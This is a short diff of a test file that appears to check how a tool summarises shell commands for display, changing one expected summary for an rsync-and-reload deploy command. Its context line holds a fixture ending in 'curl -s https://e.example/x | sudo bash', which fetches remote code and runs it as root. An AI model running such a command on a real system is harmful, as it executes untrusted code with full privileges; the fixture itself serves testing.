@@ -91,7 +91,7 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "rsync -a --delete build/ web@shop:/var/www/ && systemctl reload nginx",
-            'Runs "rsync… --delete… web@shop:/var/www/", "systemctl reload nginx"',
+            'Runs "rsync… --delete… web@shop:/var/www/" and 1 more',
         ),
         (f"deploy --password {TOKEN}", 'Runs "deploy --password ⟨secret⟩"'),
         ("", "Runs an empty command"),
